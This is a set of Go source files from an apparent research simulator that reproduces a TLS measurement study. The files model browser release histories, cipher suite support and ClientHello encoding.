			if n != prev || fb != prevFallback {
				row := TableRow{Browser: p.Name, Version: rel.Version, Date: rel.Date, Before: prev, After: n}
				if trackFallback {
					switch {
					case fb && !prevFallback:
						row.Note = "fallback only"
					case n == 0 && !fb && (prev > 0 || prevFallback):
						row.Note = "removed completely"
					}
				}
				rows = append(rows, row)
				prev, prevFallback = n, fb
			}
		}
	}
	return rows
}

// Table3CBC reproduces Table 3: changes in the number of CBC cipher suites
// offered by major browsers. The count includes 3DES-CBC suites, as the
// paper's does.
func Table3CBC() []TableRow {
	return suiteCountRows(registry.Suite.IsCBC, false)
}

// Table4RC4 reproduces Table 4: changes in browser RC4 support, including
// the Firefox fallback-only phase.
func Table4RC4() []TableRow {
	return suiteCountRows(registry.Suite.IsRC4, true)
}

// Table53DES reproduces Table 5: changes in browser 3DES support.
func Table53DES() []TableRow {
	return suiteCountRows(registry.Suite.Is3DES, false)
}

// VersionSupportRow is one row of Table 6: a browser release that changed
// protocol-version support.
type VersionSupportRow struct {
	Browser string
	Version string
	Date    timeline.Date
	Support string
}

// String renders the row.
func (r VersionSupportRow) String() string {
	return fmt.Sprintf("%-8s %-6s %s  %s", r.Browser, r.Version, r.Date, r.Support)
}

// Table6Versions reproduces Table 6: browser TLS version support changes —
// new maximum versions and SSL3-fallback removals.
func Table6Versions() []VersionSupportRow {
	var rows []VersionSupportRow
	for _, p := range BrowserProfiles() {
		prevMax := registry.Version(0)
		prevFallback := false
		for i, rel := range p.Releases {
			max := rel.Config.MaxVersion()
			fb := rel.Config.SSL3Fallback
			if i == 0 {
				prevMax, prevFallback = max, fb
				continue
			}
			var notes []string
			if max > prevMax {
				notes = append(notes, max.String()+" supported")
			}
			if prevFallback && !fb {
				notes = append(notes, "SSL 3 fallback removed")
			}
			if len(notes) > 0 {
				rows = append(rows, VersionSupportRow{
					Browser: p.Name, Version: rel.Version, Date: rel.Date,
					Support: strings.Join(notes, "; "),
				})
			}
			prevMax, prevFallback = max, fb
		}
	}
	return rows
}

// FindRow locates the row for a given browser and version, for tests and
// the experiment report.
func FindRow(rows []TableRow, browser, version string) (TableRow, bool) {
	for _, r := range rows {
		if r.Browser == browser && r.Version == version {
			return r, true
		}
	}
	return TableRow{}, false
}
