package clientdb

import (
	"time"

	"tlsage/internal/adoption"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// Browser profiles. Each release encodes the configuration changes the paper
// documents in Tables 3 (CBC counts), 4 (RC4 counts), 5 (3DES counts) and 6
// (protocol-version support), at the dates printed there. Where the paper's
// tables disagree on a date or version label (they were compiled from
// different sources), the discrepancy is resolved toward the release date
// and noted in EXPERIMENTS.md.

func d(y int, m time.Month, day int) timeline.Date { return timeline.D(y, m, day) }

// safariLag: Safari updates ride OS updates — slower than auto-updating
// browsers. windowsLag: IE is pinned to Windows servicing, slower still.
var (
	safariLag  = adoption.LagDistribution{FastShare: 0.50, FastTauDays: 45, SlowTauDays: 420, NeverShare: 0.03}
	windowsLag = adoption.LagDistribution{FastShare: 0.35, FastTauDays: 60, SlowTauDays: 500, NeverShare: 0.03}
)

var firefox = &Profile{
	Name:  "Firefox",
	Class: ClassBrowser,
	Lag:   adoption.BrowserLag,
	Releases: []VersionConfig{
		{"<27", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 29, 8, 6),
			Extensions: extsEra2012, Curves: curvesNSSOld, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		// FF27 (Table 6: TLS 1.1/1.2; Table 3: CBC 29→17; Table 4: RC4 6→4;
		// Table 5: 3DES 8→3).
		{"27", d(2014, time.February, 4), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites:     browserList(4, 17, 3, 4),
			Extensions: extsEra2014, Curves: curvesNSSOld, PointFormats: pfUncompressed,
			SSL3Fallback: true, SendsFallbackSCSV: true,
		}},
		// FF33 (Table 3: CBC→10; Table 5: 3DES→1).
		{"33", d(2014, time.October, 14), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites:     browserList(4, 10, 1, 4),
			Extensions: extsEra2014, Curves: curvesNSSOld, PointFormats: pfUncompressed,
			SSL3Fallback: true, SendsFallbackSCSV: true,
		}},
		// FF36 (Table 4: RC4 fallback only).
		{"36", d(2015, time.February, 24), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites:     browserList(4, 10, 1, 0),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true, RC4FallbackOnly: true, SendsFallbackSCSV: true,
		}},
		// FF37 (Table 3: CBC→9; Table 6: SSL3 fallback removed).
		{"37", d(2015, time.March, 31), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 9, 1, 0),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			RC4FallbackOnly: true, SendsFallbackSCSV: true,
		}},
		// FF44 (Table 4: RC4 removed completely).
		{"44", d(2016, time.January, 26), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(6, 9, 1, 0),
			Extensions: extsEra2016, Curves: curvesModern, PointFormats: pfUncompressed,
			SendsFallbackSCSV: true,
		}},
		// FF60 beta (Table 3: CBC→5; Table 6: TLS 1.3). The beta rollout in
		// March 2018 is what the paper sees as the Firefox share of the
		// Feb→Apr 2018 jump in client TLS 1.3 support (§6.4).
		{"60", d(2018, time.March, 14), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			SupportedVersions: []registry.Version{
				registry.VersionTLS13Draft18, registry.VersionTLS12,
				registry.VersionTLS11, registry.VersionTLS10,
			},
			Suites: concat(
				[]uint16{0x1301, 0x1303, 0x1302}, // TLS 1.3 suites first
				take(aeadPool, 6), take(cbcAESPool, 4), take(tdesPool, 1),
			),
			Extensions: extsEra2018, Curves: curvesModern, PointFormats: pfUncompressed,
		}},
	},
}

var chrome = &Profile{
	Name:  "Chrome",
	Class: ClassBrowser,
	Lag:   adoption.BrowserLag,
	Releases: []VersionConfig{
		{"<22", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 29, 8, 6),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		// Chrome 22 (Table 6: TLS 1.1).
		{"22", d(2012, time.September, 25), Config{
			LegacyVersion: registry.VersionTLS11, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 29, 8, 6),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		// Chrome 29 (Table 6: TLS 1.2; Table 3: CBC 29→16; Table 4: RC4 6→4;
		// Table 5: 3DES 8→1).
		{"29", d(2013, time.August, 20), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites:     browserList(4, 16, 1, 4),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true, SendsFallbackSCSV: true,
		}},
		// Chrome 31 (Table 3: CBC→10). Also ships the draft ChaCha20 suites.
		{"31", d(2013, time.November, 12), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites: concat(take(aeadPool, 4), oldChaChaPool,
				take(cbcAESPool, 9), take(rc4Pool, 4), take(tdesPool, 1)),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true, SendsFallbackSCSV: true,
		}},
		// Chrome 39 (Table 6: SSL3 fallback removed).
		{"39", d(2014, time.November, 18), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites: concat(take(aeadPool, 4), oldChaChaPool,
				take(cbcAESPool, 9), take(rc4Pool, 4), take(tdesPool, 1)),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SendsFallbackSCSV: true,
		}},
		// Chrome 41 (Table 3: CBC→9).
		{"41", d(2015, time.March, 3), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites: concat(take(aeadPool, 4), oldChaChaPool,
				take(cbcAESPool, 8), take(rc4Pool, 4), take(tdesPool, 1)),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SendsFallbackSCSV: true,
		}},
		// Chrome 43 (Table 4: RC4 removed completely).
		{"43", d(2015, time.May, 19), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites: concat(take(aeadPool, 4), oldChaChaPool,
				take(cbcAESPool, 8), take(tdesPool, 1)),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SendsFallbackSCSV: true,
		}},
		// Chrome 49 (Table 3: CBC→7); RFC 7905 ChaCha20 code points and
		// x25519 land in this era.
		{"49", d(2016, time.March, 2), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(6, 7, 1, 0),
			Extensions: extsEra2016, Curves: curvesModern, PointFormats: pfUncompressed,
			SendsFallbackSCSV: true,
		}},
		// Chrome 56 (Table 3: CBC→5); GREASE on.
		{"56", d(2017, time.January, 25), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(6, 5, 1, 0),
			Extensions: extsEra2016, Curves: curvesModern, PointFormats: pfUncompressed,
			GREASE: true,
		}},
		// Chrome 65 (March 2018): TLS 1.3 re-enabled with the experimental
		// Google variant 0x7e02 — the version the paper saw in 82.3% of
		// supported_versions advertisements (§6.4).
		{"65", d(2018, time.March, 6), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			SupportedVersions: []registry.Version{
				registry.VersionTLS13Google, registry.VersionTLS12,
				registry.VersionTLS11, registry.VersionTLS10,
			},
			Suites: concat([]uint16{0x1301, 0x1302, 0x1303},
				take(aeadPool, 6), take(cbcAESPool, 4), take(tdesPool, 1)),
			Extensions: extsEra2018, Curves: curvesModern, PointFormats: pfUncompressed,
			GREASE: true,
		}},
	},
}

var opera = &Profile{
	Name:  "Opera",
	Class: ClassBrowser,
	Lag:   adoption.BrowserLag,
	Releases: []VersionConfig{
		// Presto-era Opera.
		{"<15", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 25, 8, 2),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		// Opera 15: switch to Chromium (Table 3: CBC 25→29; Table 4: RC4 2→6).
		{"15", d(2013, time.July, 2), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 29, 8, 6),
			Extensions: extsOpera2013, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		// Opera 16 (Table 6: TLS 1.1; Table 3: CBC→16; Table 4: RC4→4;
		// Table 5: 3DES→1).
		{"16", d(2013, time.August, 27), Config{
			LegacyVersion: registry.VersionTLS11, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 16, 1, 4),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true, SendsFallbackSCSV: true,
		}},
		// Opera 18 (Table 3: CBC→10); TLS 1.2 with the Chromium 31 engine.
		{"18", d(2013, time.November, 19), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites:     browserList(4, 10, 1, 4),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true, SendsFallbackSCSV: true,
		}},
		// Opera 27 (Table 6: SSL3 fallback removed).
		{"27", d(2015, time.January, 22), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 10, 1, 4),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SendsFallbackSCSV: true,
		}},
		// Opera 28 (Table 3: CBC→9).
		{"28", d(2015, time.March, 10), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 9, 1, 4),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SendsFallbackSCSV: true,
		}},
		// Opera 30 (Table 3: CBC→7; Table 4: RC4 removed completely).
		{"30", d(2015, time.June, 9), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(6, 7, 1, 0),
			Extensions: extsEra2016, Curves: curvesClassic, PointFormats: pfUncompressed,
			SendsFallbackSCSV: true,
		}},
		// Opera 43 (Table 3: CBC→5).
		{"43", d(2017, time.February, 7), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(6, 5, 1, 0),
			Extensions: extsOpera2016, Curves: curvesModern, PointFormats: pfUncompressed,
			GREASE: true,
		}},
	},
}

var safari = &Profile{
	Name:  "Safari",
	Class: ClassBrowser,
	Lag:   safariLag,
	Releases: []VersionConfig{
		{"<6", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 28, 7, 7),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfAll,
			SSL3Fallback: true,
		}},
		// Safari 6 (Table 4: RC4 7→6).
		{"6", d(2012, time.February, 25), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 28, 7, 6),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfAll,
			SSL3Fallback: true,
		}},
		// Safari 7 (Table 6: TLS 1.1/1.2).
		{"7", d(2013, time.October, 22), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 28, 7, 6),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfAll,
			SSL3Fallback: true,
		}},
		// Safari 7.1 (Table 3: CBC 28→30, an increase; Table 5 "6.2": 3DES
		// 7→6 — same date, merged here).
		{"7.1", d(2014, time.September, 18), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 30, 6, 6),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfAll,
			SSL3Fallback: true,
		}},
		// Safari 9 (Table 6: SSL3 removed; Table 4: RC4→4; Table 5: 3DES→3;
		// Table 3's CBC→15 is dated 01/09/2016 but attributed to 9 — applied
		// here). First Secure Transport GCM suites.
		{"9", d(2015, time.September, 30), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 15, 3, 4),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
		// Safari 10 (Table 4 "10.1": RC4 removed completely).
		{"10", d(2016, time.September, 20), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 15, 3, 0),
			Extensions: extsEra2016, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
		// Safari 10.1 (Table 3: CBC→12).
		{"10.1", d(2017, time.July, 19), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 12, 3, 0),
			Extensions: extsEra2016, Curves: curvesClassic, PointFormats: pfAll,
		}},
	},
}

var ieEdge = &Profile{
	Name:  "IE/Edge",
	Class: ClassBrowser,
	Lag:   windowsLag,
	Releases: []VersionConfig{
		{"<11", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 12, 2, 4),
			Extensions: extsMinimal, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		// IE 11 (Table 6: TLS 1.1/1.2).
		{"11", d(2013, time.November, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites:     browserList(2, 12, 2, 4),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		// IE/Edge 13 (Table 4: all RC4 removed; SSL3 disabled post-POODLE).
		{"13", d(2015, time.May, 20), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 10, 2, 0),
			Extensions: extsEra2016, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
	},
}

// browserProfiles lists the five major browsers of the study.
var browserProfiles = []*Profile{chrome, firefox, safari, ieEdge, opera}

// BrowserProfiles returns the browser profiles (shared; do not mutate).
func BrowserProfiles() []*Profile { return browserProfiles }
