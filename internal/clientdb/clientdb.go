// Package clientdb is the ground-truth database of TLS client software the
// study observes: the five major browsers with their documented
// configuration histories (Tables 3, 4, 5 and 6 of the paper), the TLS
// libraries that dominate Notary traffic (OpenSSL, OS libraries, Java), and
// the odd long-tail clients behind the paper's NULL/anonymous/export
// findings (§5.5, §6.1, §6.2).
//
// Each Profile carries a chronological list of dated version configurations.
// Combined with an adoption.LagDistribution, a profile yields the installed
// version mix at any study date; the population package samples from these
// mixes to synthesize traffic.
package clientdb

import (
	"fmt"
	"math/rand"

	"tlsage/internal/adoption"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
	"tlsage/internal/wire"
)

// Class buckets client software the way Table 2 of the paper does.
type Class string

// Fingerprint classes from Table 2.
const (
	ClassLibrary      Class = "Libraries"
	ClassBrowser      Class = "Browsers"
	ClassOSTool       Class = "OS Tools and Services"
	ClassMobileApp    Class = "Mobile apps"
	ClassDevTool      Class = "Dev. tools"
	ClassAV           Class = "AV"
	ClassCloudStorage Class = "Cloud Storage"
	ClassEmail        Class = "Email"
	ClassMalware      Class = "Malware & PUP"
)

// AllClasses returns the Table 2 classes in the paper's row order.
func AllClasses() []Class {
	return []Class{ClassLibrary, ClassBrowser, ClassOSTool, ClassMobileApp,
		ClassDevTool, ClassAV, ClassCloudStorage, ClassEmail, ClassMalware}
}

// Config is one client software version's complete TLS posture: everything
// needed to build its ClientHello and to model its negotiation behaviour.
type Config struct {
	// LegacyVersion is the version field of the ClientHello.
	LegacyVersion registry.Version
	// SupportedVersions, when non-empty, is sent in the supported_versions
	// extension (TLS 1.3-style negotiation).
	SupportedVersions []registry.Version
	// Suites is the advertised cipher-suite list in preference order.
	Suites []uint16
	// Extensions is the advertised extension order (bodies are synthesized).
	Extensions []registry.ExtensionID
	// Curves is the supported_groups list.
	Curves []registry.CurveID
	// PointFormats is the ec_point_formats list.
	PointFormats []registry.ECPointFormat
	// GREASE injects GREASE values into suites/extensions/curves on the wire
	// (Chrome lineage).
	GREASE bool
	// SSL3Fallback reports whether the client retries failed handshakes
	// down to SSL 3 (the POODLE precondition; Table 6 removal dates).
	SSL3Fallback bool
	// SendsFallbackSCSV marks fallback retries with TLS_FALLBACK_SCSV.
	SendsFallbackSCSV bool
	// RC4FallbackOnly models Firefox 36–43: RC4 withheld from the first
	// hello, offered only on retry (Table 4 footnote).
	RC4FallbackOnly bool
	// HeartbeatMode, when nonzero, advertises the heartbeat extension with
	// that mode (OpenSSL lineage; §5.4).
	HeartbeatMode uint8
	// SSLv2Compat marks clients that still open with an SSLv2-compatible
	// hello (the Nagios monitoring traffic of §5.1).
	SSLv2Compat bool
	// MinVersion is the lowest version the client accepts in a ServerHello.
	MinVersion registry.Version
}

// MaxVersion returns the highest protocol version the config offers.
func (c *Config) MaxVersion() registry.Version {
	max := c.LegacyVersion
	for _, v := range c.SupportedVersions {
		if cv := v.Canonical(); cv > max {
			max = cv
		}
	}
	return max
}

// CountWhere counts advertised suites matching pred (unknown IDs never
// match). Tables 3–5 are computed with this.
func (c *Config) CountWhere(pred func(registry.Suite) bool) int {
	n := 0
	for _, id := range c.Suites {
		if s, ok := registry.SuiteByID(id); ok && pred(s) {
			n++
		}
	}
	return n
}

// Offers reports whether any advertised suite matches pred.
func (c *Config) Offers(pred func(registry.Suite) bool) bool {
	return registry.ListHas(c.Suites, pred)
}

// BuildHello constructs the wire ClientHello for this configuration.
// rnd seeds the random field and GREASE placement; fallback selects the
// downgraded retry form (used after a failed first attempt).
func (c *Config) BuildHello(rnd *rand.Rand, fallback bool) *wire.ClientHello {
	suites := make([]uint16, 0, len(c.Suites)+2)
	if c.GREASE {
		suites = append(suites, grease(rnd, 0))
	}
	suites = append(suites, c.Suites...)
	if c.RC4FallbackOnly && fallback {
		suites = append(suites, rc4FallbackSuites...)
	}
	if fallback && c.SendsFallbackSCSV {
		suites = append(suites, 0x5600)
	}

	ch := &wire.ClientHello{
		Version:            c.LegacyVersion,
		CipherSuites:       suites,
		CompressionMethods: []byte{0},
	}
	rnd.Read(ch.Random[:])

	for _, id := range c.Extensions {
		switch id {
		case registry.ExtSupportedGroups:
			curves := c.Curves
			if c.GREASE {
				withGrease := make([]registry.CurveID, 0, len(curves)+1)
				withGrease = append(withGrease, registry.CurveID(grease(rnd, 1)))
				curves = append(withGrease, curves...)
			}
			ch.Extensions = append(ch.Extensions, wire.NewSupportedGroupsExtension(curves))
		case registry.ExtECPointFormats:
			ch.Extensions = append(ch.Extensions, wire.NewECPointFormatsExtension(c.PointFormats))
		case registry.ExtSupportedVersions:
			if len(c.SupportedVersions) > 0 {
				vs := c.SupportedVersions
				if c.GREASE {
					withGrease := make([]registry.Version, 0, len(vs)+1)
					withGrease = append(withGrease, registry.Version(grease(rnd, 2)))
					vs = append(withGrease, vs...)
				}
				ch.Extensions = append(ch.Extensions, wire.NewSupportedVersionsExtension(vs))
			}
		case registry.ExtHeartbeat:
			if c.HeartbeatMode != 0 {
				ch.Extensions = append(ch.Extensions, wire.NewHeartbeatExtension(c.HeartbeatMode))
			}
		default:
			ch.Extensions = append(ch.Extensions, wire.Extension{ID: id})
		}
	}
	if c.GREASE {
		ch.Extensions = append(ch.Extensions, wire.Extension{ID: registry.ExtensionID(grease(rnd, 3))})
	}
	return ch
}

// grease picks a GREASE value; slot diversifies which one per position.
func grease(rnd *rand.Rand, slot int) uint16 {
	vals := registry.GREASEValues()
	return vals[(rnd.Intn(len(vals))+slot)%len(vals)]
}

// rc4FallbackSuites is the RC4 set Firefox re-enabled on retry during its
// fallback-only phase.
var rc4FallbackSuites = []uint16{0x0005, 0x0004, 0xC011, 0xC007}

// VersionConfig is one dated release of a product.
type VersionConfig struct {
	Version string
	Date    timeline.Date
	Config  Config
}

// Profile is one client software product with its release history.
type Profile struct {
	Name     string
	Class    Class
	Lag      adoption.LagDistribution
	Releases []VersionConfig // chronological
	// Unlabeled marks software the fingerprint database cannot attribute —
	// the ~30% of Notary traffic outside the paper's 69.23% coverage
	// (Table 2). Unlabeled profiles still generate traffic and fingerprints,
	// but the fingerprint DB holds no entry for them.
	Unlabeled bool
}

// Validate checks chronological ordering and config sanity.
func (p *Profile) Validate() error {
	if len(p.Releases) == 0 {
		return fmt.Errorf("clientdb: profile %s has no releases", p.Name)
	}
	for i, r := range p.Releases {
		if len(r.Config.Suites) == 0 {
			return fmt.Errorf("clientdb: %s %s has no cipher suites", p.Name, r.Version)
		}
		if i > 0 && r.Date.Before(p.Releases[i-1].Date) {
			return fmt.Errorf("clientdb: %s releases out of order at %s", p.Name, r.Version)
		}
		for _, id := range r.Config.Suites {
			if _, ok := registry.SuiteByID(id); !ok {
				return fmt.Errorf("clientdb: %s %s advertises unknown suite %#04x", p.Name, r.Version, id)
			}
		}
	}
	return p.Lag.Validate()
}

// MixAt returns the share of the installed base on each release at date d.
// Index i corresponds to Releases[i]; the pre-first-release share is folded
// into Releases[0] (the oldest config keeps serving users who never moved).
func (p *Profile) MixAt(d timeline.Date) []float64 {
	rel := make([]adoption.Release, len(p.Releases))
	for i, r := range p.Releases {
		rel[i] = adoption.Release{Version: r.Version, Date: r.Date}
	}
	raw := adoption.VersionMix(rel, d, p.Lag)
	out := make([]float64, len(p.Releases))
	out[0] = raw[0] + raw[1]
	for i := 1; i < len(p.Releases); i++ {
		out[i] = raw[i+1]
	}
	return out
}

// SampleRelease draws a release index according to MixAt(d).
func (p *Profile) SampleRelease(d timeline.Date, rnd *rand.Rand) int {
	mix := p.MixAt(d)
	x := rnd.Float64()
	acc := 0.0
	for i, w := range mix {
		acc += w
		if x < acc {
			return i
		}
	}
	return len(mix) - 1
}

// ReleaseByVersion finds a release by version string.
func (p *Profile) ReleaseByVersion(v string) (VersionConfig, bool) {
	for _, r := range p.Releases {
		if r.Version == v {
			return r, true
		}
	}
	return VersionConfig{}, false
}

// AllProfiles returns every profile in the database: browsers, libraries,
// tools and odd clients. The slice and its contents are shared; callers must
// not mutate.
func AllProfiles() []*Profile {
	out := make([]*Profile, 0, len(browserProfiles)+len(libraryProfiles)+len(unknownProfiles))
	out = append(out, browserProfiles...)
	out = append(out, libraryProfiles...)
	out = append(out, unknownProfiles...)
	return out
}

// LabeledProfiles returns only the profiles the fingerprint database can
// attribute.
func LabeledProfiles() []*Profile {
	var out []*Profile
	for _, p := range AllProfiles() {
		if !p.Unlabeled {
			out = append(out, p)
		}
	}
	return out
}

// ProfileByName looks a profile up by name.
func ProfileByName(name string) (*Profile, bool) {
	for _, p := range AllProfiles() {
		if p.Name == name {
			return p, true
		}
	}
	return nil, false
}
