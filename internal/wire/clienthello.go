package wire

import (
	"fmt"

	"tlsage/internal/registry"
)

// ClientHello is a parsed TLS ClientHello handshake message (RFC 5246
// §7.4.1.2). Field order matches the wire layout. All slices are owned by
// the struct (decoding copies out of the input buffer).
type ClientHello struct {
	Version            registry.Version // legacy_version on the wire
	Random             [32]byte
	SessionID          []byte
	CipherSuites       []uint16
	CompressionMethods []byte
	Extensions         []Extension
}

// Append serializes the ClientHello handshake body (without the handshake
// header) into dst and returns the extended slice.
func (ch *ClientHello) Append(dst []byte) ([]byte, error) {
	b := builder{buf: dst}
	b.u16(uint16(ch.Version))
	b.raw(ch.Random[:])
	if len(ch.SessionID) > 32 {
		return dst, fmt.Errorf("%w: session id %d bytes", ErrMalformed, len(ch.SessionID))
	}
	b.vec8(ch.SessionID)
	if len(ch.CipherSuites) == 0 {
		return dst, fmt.Errorf("%w: empty cipher suite list", ErrMalformed)
	}
	b.u16listVec(ch.CipherSuites)
	comp := ch.CompressionMethods
	if len(comp) == 0 {
		comp = []byte{0}
	}
	b.vec8(comp)
	if err := appendExtensions(&b, ch.Extensions); err != nil {
		return dst, err
	}
	return b.buf, nil
}

// MarshalBinary implements encoding.BinaryMarshaler, returning the handshake
// body.
func (ch *ClientHello) MarshalBinary() ([]byte, error) { return ch.Append(nil) }

// DecodeFromBytes parses a ClientHello handshake body. On error the receiver
// is left in an undefined state. The input is not retained.
func (ch *ClientHello) DecodeFromBytes(data []byte) error {
	r := newReader(data)
	ch.Version = registry.Version(r.u16("client version"))
	copy(ch.Random[:], r.bytes(32, "random"))
	sid := r.vec8("session id")
	suites := r.u16list("cipher suites")
	comp := r.vec8("compression methods")
	if r.err != nil {
		return r.err
	}
	ch.SessionID = append([]byte(nil), sid...)
	ch.CipherSuites = append([]uint16(nil), suites...)
	ch.CompressionMethods = append([]byte(nil), comp...)
	ch.Extensions = nil
	if r.empty() {
		return nil // SSL3-style hello without extensions
	}
	exts, err := parseExtensions(r)
	if err != nil {
		return err
	}
	if !r.empty() {
		return fmt.Errorf("%w: %d trailing bytes after extensions", ErrMalformed, len(r.data))
	}
	ch.Extensions = exts
	return nil
}

// AppendRecord serializes the full on-the-wire form: handshake header plus
// record header, appended to dst.
func (ch *ClientHello) AppendRecord(dst []byte) ([]byte, error) {
	var e HelloEncoder
	return e.AppendRecord(ch, dst)
}

// HelloEncoder serializes hellos through reusable scratch buffers, so a loop
// encoding many hellos (the simulator's wire round-trip does one per
// connection) pays for the intermediate handshake framing buffers once
// instead of on every message. The zero value is ready to use. An encoder
// must not be shared between goroutines. The bytes appended to dst are
// copies and stay valid across later calls.
type HelloEncoder struct {
	body, msg []byte
}

// AppendRecord appends ch's full on-the-wire form to dst — identical bytes
// to (*ClientHello).AppendRecord — reusing the encoder's internal buffers.
func (e *HelloEncoder) AppendRecord(ch *ClientHello, dst []byte) ([]byte, error) {
	body, err := ch.Append(e.body[:0])
	if err != nil {
		return dst, err
	}
	e.body = body
	msg, err := AppendHandshake(e.msg[:0], TypeClientHello, body)
	if err != nil {
		return dst, err
	}
	e.msg = msg
	// The record-layer version of a ClientHello is conventionally TLS 1.0
	// for maximum middlebox tolerance when the hello itself is ≥ TLS 1.0.
	recVer := ch.Version
	if recVer > registry.VersionTLS10 {
		recVer = registry.VersionTLS10
	}
	return AppendRecord(dst, ContentHandshake, recVer, msg)
}

// ExtensionIDs returns the extension code points in wire order.
func (ch *ClientHello) ExtensionIDs() []registry.ExtensionID {
	return ch.AppendExtensionIDs(nil)
}

// AppendExtensionIDs appends the extension code points in wire order to dst.
// Append-variant accessors exist for every list the Notary pipeline copies
// into a (pooled) record, so observation reuses the record's capacity
// instead of allocating per connection.
func (ch *ClientHello) AppendExtensionIDs(dst []registry.ExtensionID) []registry.ExtensionID {
	for _, e := range ch.Extensions {
		dst = append(dst, e.ID)
	}
	return dst
}

// AppendSupportedGroups appends the supported_groups curves to dst; dst is
// returned unchanged when the extension is absent or malformed.
func (ch *ClientHello) AppendSupportedGroups(dst []registry.CurveID) []registry.CurveID {
	e, ok := FindExtension(ch.Extensions, registry.ExtSupportedGroups)
	if !ok {
		return dst
	}
	r := newReader(e.Data)
	body := r.vec16("supported_groups")
